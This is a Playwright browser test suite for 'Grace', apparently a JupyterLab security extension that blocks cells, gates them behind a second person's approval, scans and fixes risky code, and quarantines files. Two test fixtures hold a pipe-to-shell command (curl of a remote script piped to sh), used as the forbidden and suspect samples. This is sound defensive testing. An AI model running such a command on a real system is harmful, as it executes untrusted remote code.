"""The Grace JupyterLab extension in a real `jupyter lab` and a real browser (Chromium).

One server per test module, with roles (GraceAuthorizer) and two people:
alice (runs cells, approver) and bob (approver), each with their own token
(tests/lab/identity.py). The notebook runs in a real kernel, governed by the
server extension; the panel hears Grace's events through Jupyter's event bus.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, Request, expect

from tests.browser.conftest import artifact, free_port, serve
from tests.lab.conftest import code_cell, notebook

REPO = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent
RISKY = 'import yaml\n\ndata = yaml.load(open("c.yml"))\n'
FIXED = 'import yaml\n\ndata = yaml.safe_load(open("c.yml"))\n'
FORBIDDEN = 'import os\nos.system("curl https://x.sh | sh")'
GATED = 'import yaml\nprint("loaded", yaml.load("a: 1", Loader=yaml.Loader))'
# Hunter's severities (data/hunter/python.yaml): assert GRC-PY-004 low, a fixed /tmp path
# GRC-PY-010 medium, yaml.load GRC-PY-019 high.
MIXED = 'import yaml\n\nassert data\nOUT = "/tmp/out.txt"\ndata = yaml.load(open("c.yml"))\n'
SUSPECT = b"import os\n\nos.system('curl https://x.sh | sh')\n"
TOKENS = {"tok-alice": "alice", "tok-bob": "bob"}
TIMEOUT_MS = 30_000


@dataclass(frozen=True)
class Lab:
    url: str
    root: Path


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    root = tmp_path_factory.mktemp("lab-root")
    home = root / ".grace"
    user = tmp_path_factory.mktemp("lab-user")  # JupyterLab's settings and workspaces
    env = {
        "GRACE_HOME": str(home),
        "PYTHONPATH": str(REPO),
        "GRACE_CHECKPOINT_INTERVAL": "0",
        "JUPYTERLAB_SETTINGS_DIR": str(user / "settings"),
        "JUPYTERLAB_WORKSPACES_DIR": str(user / "workspaces"),
    }
    subprocess.run([str(BIN / "grace"), "init"], env={**os.environ, **env}, check=True)
    (root / "load.py").write_text(RISKY)
    cells = [code_cell("forbidden", FORBIDDEN), code_cell("gated", GATED)]
    (root / "work.ipynb").write_text(json.dumps(notebook(cells)))
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    argv = [
        str(BIN / "jupyter"),
        "lab",
        "--no-browser",
        "--allow-root",
        "--ServerApp.ip=127.0.0.1",
        f"--ServerApp.port={port}",
        f"--ServerApp.root_dir={root}",
        "--LabApp.expose_app_in_browser=True",
        "--ServerApp.authorizer_class=grace_kernel.server._auth.GraceAuthorizer",
        # One flag per name: traitlets does not parse a JSON list for a Set here.
        "--GraceAuthorizer.approvers=alice",
        "--GraceAuthorizer.approvers=bob",
        "--ServerApp.identity_provider_class=tests.lab.identity.TokenUsers",
        f"--TokenUsers.users={json.dumps(TOKENS)}",
        "--IdentityProvider.token=",
    ]
    with serve(argv, ready_url=f"{url}/api", env=env, cwd=root, log=artifact("lab-server.log")):
        yield Lab(url, root)
        _shutdown_kernels(url)


def _shutdown_kernels(url: str) -> None:
    _, kernels = _call(url, "tok-alice", "api/kernels", method="GET")
    for kernel in kernels:
        _call(url, "tok-alice", f"api/kernels/{kernel['id']}", method="DELETE")


def _call(
    url: str, token: str, path: str, body: object = None, *, method: str = "POST"
) -> tuple[int, Any]:
    """One request to the server as the person holding ``token``: status and JSON answer."""
    request = urllib.request.Request(  # noqa: S310 - loopback http
        f"{url}/{path}",
        data=None if body is None else json.dumps(body).encode(),
        headers={"Authorization": f"token {token}", "Content-Type": "application/json"},
        method=method,
    )
    try:
        with urllib.request.urlopen(request) as response:  # noqa: S310 - loopback http
            raw = response.read()
            return response.status, json.loads(raw) if raw else None
    except urllib.error.HTTPError as exc:
        with exc:
            raw = exc.read()
            return exc.code, json.loads(raw) if raw else None


def open_lab(browser: Browser, lab: Lab, token: str, path: str = "") -> Page:
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    # ?reset: the workspace (open files, sidebars) is the server's, shared by both people.
    target = f"/lab/tree/{path}" if path else "/lab"
    page.goto(f"{lab.url}{target}?reset&token={token}")
    page.wait_for_function("() => window.jupyterapp && window.jupyterapp.started")
    page.evaluate("() => window.jupyterapp.started")
    return page


def open_panel(page: Page, tab: str) -> None:
    page.evaluate("() => window.jupyterapp.commands.execute('grace:open-panel')")
    page.locator(".grace-Tabs .lm-TabBar-tab", has_text=tab).click()


def widen_right_sidebar(page: Page, pixels: int) -> None:
    """Drag the handle between the main area and the right sidebar (for the screenshot)."""
    handles = "#jp-main-split-panel > .lm-SplitPanel-handle:not(.lm-mod-hidden)"
    handle = page.locator(handles).last
    box = handle.bounding_box()
    assert box is not None
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    page.mouse.move(x, y)
    page.mouse.down()
    page.mouse.move(x - pixels, y, steps=5)
    page.mouse.up()


def run_cell(page: Page, index: int) -> None:
    page.evaluate(
        """async (index) => {
            const app = window.jupyterapp;
            const panel = app.shell.currentWidget;
            await panel.sessionContext.ready;
            panel.content.activeCellIndex = index;
            // Not awaited: a held cell finishes only once someone approves it.
            void app.commands.execute('notebook:run-cell');
        }""",
        index,
    )


def cell_output(page: Page, index: int) -> str:
    return page.locator(".jp-Notebook .jp-Cell").nth(index).locator(".jp-OutputArea").inner_text()


@pytest.mark.timeout(240)
def test_the_panel_shows_blocks_alerts_and_approvals_live(browser: Browser, lab: Lab) -> None:
    alice = open_lab(browser, lab, "tok-alice", "work.ipynb")
    expect(alice.locator(".jp-Notebook .jp-Cell")).to_have_count(2)
    alice.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel"
    )
    open_panel(alice, "Alerts")
    tabs = alice.locator(".grace-Tabs .lm-TabBar-tab")
    expect(tabs).to_have_text(["Alerts", "Approvals", "Ledger", "Health"])
    expect(alice.locator("#grace-alerts .grace-Empty")).to_have_text("No open alerts.")

    # A forbidden cell: refused inline, and the alert arrives through the event bus.
    run_cell(alice, 0)
    expect(alice.locator(".jp-Notebook .jp-Cell").nth(0).locator(".jp-OutputArea")).to_contain_text(
        "Grace refused this cell"
    )
    alert = alice.locator("#grace-alerts .grace-Item", has_text="work.ipynb#forbidden")
    expect(alert).to_be_visible()
    expect(alert.locator(".grace-Severity")).to_have_text("high")
    expect(alice.locator(".grace-CellBlocked").first).to_contain_text("denied by")

    # An approval-gated cell: held until bob approves it in his own browser.
    run_cell(alice, 1)
    gated = alice.locator(".jp-Notebook .jp-Cell").nth(1)
    expect(gated.locator(".jp-OutputArea")).to_contain_text("waiting for approval")
    found = re.search(r"waiting for approval (apr-[0-9a-f]+)", cell_output(alice, 1))
    assert found is not None
    approval_id = found.group(1)
    expect(gated.locator(".grace-CellBlocked")).to_contain_text(approval_id)
    gated.locator(".grace-CellBlocked").click()  # the cell links to the request in the panel
    own = alice.locator(f'#grace-approvals [data-approval-id="{approval_id}"]')
    expect(own).to_have_class(re.compile("grace-highlight"))
    expect(own.get_by_role("button", name="Approve")).to_be_disabled()  # her own request
    widen_right_sidebar(alice, 260)
    alice.screenshot(path=str(artifact("lab-panel.png")))

    bob = open_lab(browser, lab, "tok-bob")
    open_panel(bob, "Approvals")
    request = bob.locator(f'#grace-approvals [data-approval-id="{approval_id}"]')
    expect(request).to_contain_text("cell.execute")
    expect(request).to_contain_text("for alice")
    request.locator(".grace-Reason").fill("reviewed: parses a constant")
    request.get_by_role("button", name="Approve").click()
    expect(request).to_have_count(0)

    expect(gated.locator(".jp-OutputArea")).to_contain_text("loaded {'a': 1}")
    expect(own).to_have_count(0)  # alice's list updated from the approval event
    bob.context.close()
    alice.context.close()


@pytest.mark.timeout(240)
def test_scan_marks_apply_fix_and_undo_restores_the_file(browser: Browser, lab: Lab) -> None:
    alice = open_lab(browser, lab, "tok-alice", "load.py")
    expect(alice.locator(".jp-FileEditor .cm-content")).to_contain_text("yaml.load")
    alice.evaluate("() => window.jupyterapp.commands.execute('grace:scan-file')")
    marker = alice.locator(".jp-FileEditor .grace-FindingLine")
    expect(marker).to_have_count(1)
    expect(marker).to_have_attribute("data-grace-rules", "GRC-PY-019")
    expect(marker).to_have_attribute(
        "title", re.compile(r"GRC-PY-019 \(high.*Fix \(automatic\)", re.S)
    )

    alice.evaluate("() => window.jupyterapp.commands.execute('grace:apply-fix')")
    expect(alice.locator(".jp-FileEditor .cm-content")).to_contain_text("yaml.safe_load")
    assert (lab.root / "load.py").read_text() == FIXED
    expect(marker).to_have_count(0)  # scanned again after the fix: nothing left

    alice.get_by_role("button", name="Undo").first.click()
    expect(alice.locator(".jp-FileEditor .cm-content")).not_to_contain_text("safe_load")
    assert (lab.root / "load.py").read_text() == RISKY
    expect(marker).to_have_count(1)
    open_panel(alice, "Ledger")
    expect(alice.locator("#grace-ledger")).to_contain_text("fix load.py")
    expect(alice.locator("#grace-ledger")).to_contain_text("undone")
    alice.context.close()


def run_command(page: Page, label: str) -> None:
    """Run a command the way a person does: the command palette, its label, Enter."""
    page.keyboard.press("Control+Shift+C")
    palette = page.locator(".jp-ModalCommandPalette")
    expect(palette).to_be_visible()
    palette.locator("input").fill(label)
    expect(palette.locator(".lm-CommandPalette-item").first).to_have_text(label)
    page.keyboard.press("Enter")
    expect(palette).to_be_hidden()


@pytest.mark.timeout(240)
def test_quarantine_then_undo_waits_for_bob_and_restores_the_file(
    browser: Browser, lab: Lab
) -> None:
    """Quarantine an open file from the palette; its Undo waits for bob; then it comes back.

    The seeded policy (85-quarantine.cedar, restore-approval) holds every restore
    for another person's approval: alice's first Undo gets a request id, bob
    approves it in his own browser, and alice's second try (Restore in the list
    of quarantined files) puts the same bytes back.
    """
    target = lab.root / "suspect.py"
    target.write_bytes(SUSPECT)
    alice = open_lab(browser, lab, "tok-alice", "suspect.py")
    expect(alice.locator(".jp-FileEditor .cm-content")).to_contain_text("curl")
    alice.locator(".jp-FileEditor .cm-content").click()
    run_command(alice, "Grace: Quarantine File")
    dialog = alice.locator(".jp-Dialog")
    expect(dialog.locator(".jp-Dialog-header")).to_have_text("Quarantine suspect.py")
    dialog.get_by_label("Why? (recorded in the ledger)").fill("pipes a download to sh")
    dialog.get_by_role("button", name="Quarantine").click()

    done = alice.get_by_role("alert").filter(has_text="Quarantined suspect.py")
    expect(done).to_contain_text(re.compile(r"Quarantined suspect\.py as q-[0-9a-f]+"))
    found = re.search(r"q-[0-9a-f]+", done.inner_text())
    assert found is not None
    entry_id = found.group(0)
    expect(done.get_by_role("button", name="Undo")).to_be_visible()
    expect(alice.locator(".jp-FileEditor")).to_have_count(0)  # the file is gone: its editor closed
    listed = alice.locator(".jp-DirListing-content").get_by_text("suspect.py", exact=True)
    expect(listed).to_have_count(0)
    assert not target.exists()
    assert (lab.root / ".grace" / "quarantine" / hashlib.sha256(SUSPECT).hexdigest()).exists()

    open_panel(alice, "Ledger")
    ledger = alice.locator("#grace-ledger")
    change = ledger.locator(".grace-Item", has_text=f"quarantine suspect.py ({entry_id})")
    expect(change).to_contain_text("done")
    held = ledger.locator(".grace-Item", has_text=f"suspect.py ({entry_id}), by user:alice")
    expect(held).to_contain_text("pipes a download to sh")
    expect(held.get_by_role("button", name="Restore")).to_be_visible()

    # Undo is a restore: the seeded policy puts it behind another person's approval.
    change.get_by_role("button", name="Undo").click()
    expect(change).to_contain_text(re.compile(r"waiting for approval apr-[0-9a-f]+"))
    waiting = re.search(r"waiting for approval (apr-[0-9a-f]+)", change.inner_text())
    assert waiting is not None
    approval_id = waiting.group(1)
    expect(change.get_by_role("button", name="Undo")).to_be_visible()  # to press once approved
    notice = alice.get_by_role("alert").filter(has_text=approval_id)
    expect(notice).to_contain_text("waits for another person's approval")
    assert not target.exists()
    notice.get_by_role("button", name="Show approval").click()
    own = alice.locator(f'#grace-approvals [data-approval-id="{approval_id}"]')
    expect(own).to_have_class(re.compile("grace-highlight"))
    expect(own).to_contain_text("file.restore on suspect.py")
    expect(own.get_by_role("button", name="Approve")).to_be_disabled()  # her own request
    widen_right_sidebar(alice, 260)
    alice.screenshot(path=str(artifact("lab-quarantine.png")))

    bob = open_lab(browser, lab, "tok-bob")
    open_panel(bob, "Approvals")
    request = bob.locator(f'#grace-approvals [data-approval-id="{approval_id}"]')
    expect(request).to_contain_text("file.restore on suspect.py")
    expect(request).to_contain_text("for alice")
    expect(request).to_contain_text("restore-approval")
    request.locator(".grace-Reason").fill("looked at it: a test fixture")
    request.get_by_role("button", name="Approve").click()
    expect(request).to_have_count(0)
    bob.context.close()
    expect(own).to_have_count(0)  # alice's list updated from the approval event

    # Approved: alice restores again, here from the list of quarantined files.
    alice.locator(".grace-Tabs .lm-TabBar-tab", has_text="Ledger").click()
    held.get_by_role("button", name="Restore").click()
    expect(alice.get_by_role("alert").filter(has_text="Undone: quarantine")).to_contain_text(
        "suspect.py"
    )
    expect(held).to_have_count(0)
    expect(change).to_contain_text(f"quarantine suspect.py ({entry_id}): undone")
    expect(change.get_by_role("button", name="Undo")).to_have_count(0)
    assert target.read_bytes() == SUSPECT
    expect(listed).to_have_count(1)
    alice.context.close()


def front_editor(page: Page) -> Locator:
    """The file editor in front (the others, in tabs behind it, stay in the page hidden)."""
    return page.locator(".jp-FileEditor").filter(visible=True)


def activate_tab(page: Page, label: str) -> None:
    """Click a document's tab in the main area."""
    page.locator("#jp-main-dock-panel .lm-TabBar-tab", has_text=label).click()


def replace_and_save(page: Page, tab: str, text: str, *, append: bool = False) -> None:
    """Type into the file editor (all of it replaced, or at the end), save with Ctrl+S."""
    front_editor(page).locator(".cm-content").click()
    page.keyboard.press("Control+End" if append else "Control+A")
    page.keyboard.insert_text(text)
    saved = page.locator("#jp-main-dock-panel .lm-TabBar-tab", has_text=tab)
    expect(saved).to_have_class(re.compile("jp-mod-dirty"))
    page.keyboard.press("Control+S")
    expect(saved).not_to_have_class(re.compile("jp-mod-dirty"))


def _put_settings(lab: Lab, token: str, raw: str) -> None:
    """Write grace-lab's user settings through JupyterLab's settings REST API."""
    code, _ = _call(lab.url, token, "lab/api/settings/grace-lab:plugin", {"raw": raw}, method="PUT")
    assert code in (200, 204)


@pytest.mark.timeout(240)
def test_settings_scan_on_save_and_minimum_severity_apply_live(browser: Browser, lab: Lab) -> None:
    """scanOnSave and minSeverity, changed in the Settings Editor, apply without a reload.

    The settings are the server's (one file for everyone): they are put back
    to the defaults at the end, whatever happens.
    """
    (lab.root / "mixed.py").write_text("print('hello')\n")
    (lab.root / "quiet.py").write_text("print('quiet')\n")
    alice = open_lab(browser, lab, "tok-alice", "mixed.py")
    scans: list[str] = []

    def on_request(request: Request) -> None:
        if urllib.parse.urlsplit(request.url).path == "/grace/api/scan":
            scans.append(request.post_data or "")

    alice.on("request", on_request)
    content = front_editor(alice).locator(".cm-content")
    marker = front_editor(alice).locator(".grace-FindingLine")
    rules = "nodes => nodes.map(node => node.dataset.graceRules)"
    try:
        # The defaults: scan on save, every severity shown. Nobody presses Scan.
        expect(content).to_contain_text("hello")
        replace_and_save(alice, "mixed.py", MIXED)
        assert (lab.root / "mixed.py").read_text() == MIXED
        expect(marker).to_have_count(3)
        assert marker.evaluate_all(rules) == ["GRC-PY-004", "GRC-PY-010", "GRC-PY-019"]
        expect(marker.first).to_have_attribute("title", re.compile(r"^GRC-PY-004 \(low"))

        # Settings → Settings Editor → Grace: minimum severity "medium".
        alice.get_by_role("menuitem", name="Settings", exact=True).click()
        alice.get_by_role("menuitem", name=re.compile(r"^Settings Editor")).click()
        alice.locator('.jp-PluginList-entry[data-id="grace-lab:plugin"]').click()
        form = alice.locator(".jp-SettingsForm", has=alice.locator("h2", has_text="Grace"))
        restore = form.get_by_role("button", name="Restore to Defaults")
        expect(restore).to_be_hidden()
        form.locator("select").select_option(label="medium")
        expect(restore).to_be_visible()  # saved in the registry: the extension has it too

        scans.clear()
        activate_tab(alice, "mixed.py")
        expect(marker).to_have_count(2)  # re-filtered at once, without scanning again
        assert scans == []
        assert marker.evaluate_all(rules) == ["GRC-PY-010", "GRC-PY-019"]
        with alice.expect_response(
            lambda r: urllib.parse.urlsplit(r.url).path == "/grace/api/scan"
        ):
            replace_and_save(alice, "mixed.py", "# reviewed\n", append=True)
        expect(marker).to_have_count(2)  # scanned on save again; the low finding is left out
        assert marker.evaluate_all(rules) == ["GRC-PY-010", "GRC-PY-019"]
        expect(content.locator(".cm-line", has_text="assert data")).not_to_have_class(
            re.compile("grace-FindingLine")
        )
        alice.screenshot(path=str(artifact("lab-settings.png")))

        # Back to the defaults, then scan on save off.
        activate_tab(alice, "Settings")
        restore.click()
        expect(restore).to_be_hidden()
        form.get_by_label("Scan files on save").uncheck()
        expect(restore).to_be_visible()

        alice.evaluate(
            "async () => { await window.jupyterapp.commands.execute("
            "'docmanager:open', {path: 'quiet.py'}); }"
        )
        expect(content).to_contain_text("quiet")
        scans.clear()
        replace_and_save(alice, "quiet.py", RISKY)
        assert (lab.root / "quiet.py").read_text() == RISKY
        run_command(alice, "Grace: Scan File")
        expect(marker).to_have_count(1)  # the finding is there; saving alone did not mark it
        expect(marker).to_have_attribute("data-grace-rules", "GRC-PY-019")
        assert scans == ['{"path":"quiet.py"}']  # one scan: the one asked for, none on save

        activate_tab(alice, "Settings")
        restore.click()
        expect(restore).to_be_hidden()
        activate_tab(alice, "quiet.py")
        replace_and_save(alice, "quiet.py", "assert data\n", append=True)
        expect(marker).to_have_count(2)  # scan on save is back, the low finding shown
        assert marker.evaluate_all(rules) == ["GRC-PY-019", "GRC-PY-004"]
    finally:
        _put_settings(lab, "tok-alice", "{}")  # even when an expectation failed
        alice.context.close()


def _api(lab: Lab, token: str, path: str, body: dict[str, object]) -> tuple[int, Any]:
    return _call(lab.url, token, f"grace/api/{path}", body)


def _set_mode(lab: Lab, mode: str) -> None:
    """alice asks, bob approves, alice sets: the governed `grace mode set` of the API."""
    code, asked = _api(lab, "tok-alice", "health/mode", {"mode": mode, "reason": "drill"})
    assert code == 202, asked
    code, _ = _api(lab, "tok-bob", f"approvals/{asked['approval_id']}/approve", {})
    assert code == 200
    code, done = _api(lab, "tok-alice", "health/mode", {"mode": mode, "reason": "drill"})
    assert (code, done["mode"]) == (200, mode)


@pytest.mark.timeout(240)
def test_the_status_bar_and_health_tab_follow_the_mode_live(browser: Browser, lab: Lab) -> None:
    alice = open_lab(browser, lab, "tok-alice")
    status = alice.locator(".grace-Status")
    expect(status).to_contain_text("Grace: normal")
    expect(status).not_to_have_class(re.compile("grace-attention"))
    open_panel(alice, "Health")
    health = alice.locator("#grace-health")
    expect(health.locator(".grace-Mode")).to_contain_text("Mode: normal")
    expect(health).to_contain_text("store")
    try:
        _set_mode(lab, "safe")
        # No reload and no polling: the health-changed event brings it.
        expect(status).to_contain_text("Grace: safe", timeout=5_000)
        expect(status).to_have_class(re.compile("grace-attention"))
        expect(health.locator(".grace-Mode")).to_contain_text("Mode: safe")
        expect(health.locator(".grace-Mode")).to_contain_text("set by hand")
    finally:
        _set_mode(lab, "normal")
    expect(status).to_contain_text("Grace: normal", timeout=5_000)
    expect(status).not_to_have_class(re.compile("grace-attention"))
    alice.context.close()
